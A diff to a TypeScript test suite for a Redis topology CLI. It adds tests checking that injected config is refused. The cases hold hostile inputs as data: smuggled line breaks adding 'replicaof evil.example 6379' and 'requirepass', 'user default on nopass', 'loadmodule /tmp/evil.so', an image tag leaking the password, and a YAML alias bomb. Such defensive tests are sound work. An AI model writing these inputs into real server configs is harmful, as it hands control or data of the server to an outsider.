@@ -8,6 +8,7 @@ import { cleanEnv, hasAnsi, runCli, runCliOnTty } from '../helpers/cli.js';
 import { which } from '../helpers/binaries.js';
 import { CLI_PATH } from '../helpers/repo.js';
 import { makeTempDir, removeDir } from '../helpers/tmp.js';
+import { billionLaughsYaml } from '../helpers/topology.js';
 
 let root: string;
 before(async () => {
@@ -149,7 +150,7 @@ describe('validate', () => {
     assert.deepEqual(problems, [
       'error: sentinel.quorum (bad.yaml:3:11): quorum 9 is not between 1 and the sentinel count (3)',
       'error: haproxy.writePort (bad.yaml:5:14): port 7001 for haproxy is already used by redis-1',
-      'error: auth.enabled (bad.yaml:8:12): ports are published on 0.0.0.0 without a password',
+      'error: auth.enabled (bad.yaml:8:12): ports are published on 0.0.0.0 without a password: anyone who reaches them can read and write everything',
     ]);
     assert.match(r.stderr, /3 error\(s\); nothing was written/);
   });
@@ -201,6 +202,143 @@ describe('validate', () => {
     assert.equal(r.code, 0, r.stderr);
     assert.match(r.stderr, /^warning: sentinel\.count \(--sentinels\): 4 Sentinels \(an even number\)/m);
     assert.match(r.stdout, /is valid: preset sentinel, .*1 warning\(s\)/);
+  });
+});
+
+describe('injection attempts (issue 8): exit 2, nothing written', () => {
+  // Each case: a topology file, the dot-path and message the refusal names.
+  const CASES: { name: string; yaml: string[]; expect: RegExp }[] = [
+    {
+      name: 'extraConfig with line breaks (requirepass + replicaof smuggled in)',
+      yaml: ['redis:', '  extraConfig: ["loglevel notice\\nrequirepass x\\nreplicaof evil.example 6379"]'],
+      expect: /^error: redis\.extraConfig\.0 \(t\.yaml:3:17\): holds a line break/m,
+    },
+    {
+      name: 'extraConfig user default on nopass',
+      yaml: ['redis:', '  extraConfig: ["user default on nopass"]'],
+      expect: /^error: redis\.extraConfig\.0 \(t\.yaml:3:17\): "user" cannot be set in extraConfig: ACL users/m,
+    },
+    {
+      name: 'extraConfig include',
+      yaml: ['redis:', '  extraConfig: ["include /etc/redis/more.conf"]'],
+      expect: /^error: redis\.extraConfig\.0 .*"include" cannot be set in extraConfig: reads another file/m,
+    },
+    {
+      name: 'extraConfig loadmodule',
+      yaml: ['redis:', '  extraConfig: ["loadmodule /tmp/evil.so"]'],
+      expect: /^error: redis\.extraConfig\.0 .*"loadmodule" cannot be set in extraConfig: loads native code/m,
+    },
+    {
+      name: 'extraConfig enable-module-command yes',
+      yaml: ['redis:', '  extraConfig: ["enable-module-command yes"]'],
+      expect: /^error: redis\.extraConfig\.0 .*"enable-module-command" cannot be set in extraConfig/m,
+    },
+    {
+      name: 'extraConfig quoted "replicaof"',
+      yaml: ['redis:', "  extraConfig: ['\"replicaof\" evil.example 6379']"],
+      expect: /^error: redis\.extraConfig\.0 .*"replicaof" cannot be set in extraConfig: the role of each node/m,
+    },
+    {
+      name: 'extraConfig unbalanced quotes',
+      yaml: ['redis:', "  extraConfig: ['notify-keyspace-events \"Ex']"],
+      expect: /^error: redis\.extraConfig\.0 .*Redis cannot read this line: unbalanced quotes/m,
+    },
+    {
+      name: 'redis.image interpolating the password',
+      yaml: ['redis:', '  image: "x/redis:${REDIS_PASSWORD}"'],
+      expect: /^error: redis\.image \(t\.yaml:3:10\): "x\/redis:\$\{REDIS_PASSWORD\}" is not a valid image reference: "\$" is not allowed/m,
+    },
+    {
+      name: 'auth disabled on a non-loopback bind',
+      yaml: ['bind: 0.0.0.0', 'auth:', '  enabled: false'],
+      expect: /^error: auth\.enabled \(t\.yaml:4:12\): ports are published on 0\.0\.0\.0 without a password/m,
+    },
+  ];
+
+  for (const { name, yaml, expect } of CASES) {
+    for (const command of ['render', 'validate'] as const) {
+      it(`${command}: ${name}`, async () => {
+        const cwd = await workdir();
+        await writeFile(join(cwd, 't.yaml'), ['preset: basic', ...yaml, ''].join('\n'));
+        const r = await runCli([command, '--file', 't.yaml'], { cwd });
+        assert.equal(r.code, 2, r.stderr);
+        assert.match(r.stderr, expect);
+        assert.match(r.stderr, /nothing was written/);
+        assert.deepEqual(await readdir(cwd), ['t.yaml'], 'nothing but the topology file');
+      });
+    }
+  }
+
+  it('deploy refuses the injection before looking for Docker (exit 2, not 3), nothing written', async () => {
+    const cwd = await workdir();
+    await writeFile(join(cwd, 't.yaml'), 'preset: basic\nredis:\n  extraConfig: ["hz 10\\nreplicaof evil.example 6379"]\n');
+    const r = await runCli(['deploy', '--file', 't.yaml', '--port-base', '8900'], { cwd, env: cleanEnv({ PATH: '/nonexistent' }) });
+    assert.equal(r.code, 2, r.stderr);
+    assert.match(r.stderr, /^error: redis\.extraConfig\.0 \(t\.yaml:3:17\): holds a line break/m);
+    assert.deepEqual(await readdir(cwd), ['t.yaml']);
+  });
+
+  it('--redis-image with "$" is refused at the flag', async () => {
+    const cwd = await workdir();
+    const r = await runCli(['render', 'basic', '--redis-image', 'redis:${REDIS_PASSWORD}'], { cwd });
+    assert.equal(r.code, 2, r.stderr);
+    assert.match(r.stderr, /^error: redis\.image \(--redis-image\): "redis:\$\{REDIS_PASSWORD\}" is not a valid image reference/m);
+    assert.match(r.stderr, /hint: write \[registry\[:port\]\/\]name\[:tag\]\[@digest\]/);
+    assert.deepEqual(await readdir(cwd), []);
+  });
+
+  it('every injection in one file is reported in one round', async () => {
+    const cwd = await workdir();
+    await writeFile(
+      join(cwd, 't.yaml'),
+      [
+        'preset: basic',
+        'bind: 0.0.0.0',
+        'auth:',
+        '  enabled: false',
+        'redis:',
+        '  image: "x/redis:${REDIS_PASSWORD}"',
+        '  extraConfig:',
+        '    - "loglevel notice\\nrequirepass x"',
+        '    - user default on nopass',
+        "    - '\"replicaof\" evil.example 6379'",
+        '',
+      ].join('\n'),
+    );
+    const r = await runCli(['validate', '--file', 't.yaml'], { cwd });
+    assert.equal(r.code, 2, r.stderr);
+    assert.deepEqual(
+      r.stderr.split('\n').flatMap((l) => /^error: \S+ \([^)]*\)/.exec(l)?.[0] ?? []),
+      [
+        'error: redis.extraConfig.0 (t.yaml:8:7)',
+        'error: redis.extraConfig.1 (t.yaml:9:7)',
+        'error: redis.extraConfig.2 (t.yaml:10:7)',
+        'error: redis.image (t.yaml:6:10)',
+        'error: auth.enabled (t.yaml:4:12)',
+      ],
+    );
+    assert.match(r.stderr, /5 error\(s\); nothing was written/);
+  });
+
+  it('a YAML alias bomb exits 2 at once, naming the file and the alias limit', async () => {
+    const cwd = await workdir();
+    await writeFile(join(cwd, 'bomb.yaml'), billionLaughsYaml());
+    const r = await runCli(['render', '--file', 'bomb.yaml'], { cwd, timeoutMs: 15_000 });
+    assert.equal(r.code, 2, r.stderr);
+    assert.match(r.stderr, /^error: \(topology\) \(bomb\.yaml\): YAML aliases expand past the limit of 100 alias resolutions/m);
+    assert.doesNotMatch(r.stderr, /unexpected error/);
+    assert.deepEqual(await readdir(cwd), ['bomb.yaml']);
+  });
+
+  it('auth disabled on loopback is valid, with a warning saying what it means (exit 0)', async () => {
+    const cwd = await workdir();
+    await writeFile(join(cwd, 't.yaml'), 'preset: basic\nauth:\n  enabled: false\n');
+    const r = await runCli(['validate', '--file', 't.yaml'], { cwd });
+    assert.equal(r.code, 0, r.stderr);
+    assert.match(
+      r.stderr,
+      /^warning: auth\.enabled \(t\.yaml:3:12\): auth is disabled: anyone who reaches the ports on 127\.0\.0\.1 \(every local user, process and container\) can read and write everything$/m,
+    );
   });
 });
 
@@ -304,10 +442,14 @@ describe('colors', () => {
     }
   });
 
-  it('NO_COLOR=1 with output piped: no ANSI escapes on stdout or stderr', async () => {
-    const cwd = await workdir();
-    const r = await runCli(['validate', 'sentinel', '--quorum', '9'], { cwd, env: cleanEnv({ NO_COLOR: '1' }) });
-    assert.equal(r.code, 2);
-    assert.ok(!hasAnsi(r.rawStdout + r.rawStderr));
+  it('NO_COLOR=1 turns off colour that is on without it (same command, same terminal; stdout and stderr)', { skip: !hasScript && 'util-linux `script` (for a pty) is not installed' }, async () => {
+    // validate writes its problems to stderr, render its summary to stdout; the pty merges both.
+    for (const args of [['validate', 'sentinel', '--quorum', '9'], ['render', 'sentinel']]) {
+      const colored = await runCliOnTty(args, { cwd: await workdir(), env: cleanEnv() });
+      assert.ok(hasAnsi(colored.rawStdout), `${args.join(' ')}: control failed, no colour without NO_COLOR: ${JSON.stringify(colored.rawStdout.slice(0, 120))}`);
+      const plain = await runCliOnTty(args, { cwd: await workdir(), env: cleanEnv({ NO_COLOR: '1' }) });
+      assert.equal(plain.code, colored.code);
+      assert.ok(!hasAnsi(plain.rawStdout), `${args.join(' ')}: ${JSON.stringify(plain.rawStdout.slice(0, 120))}`);
+    }
   });
 });
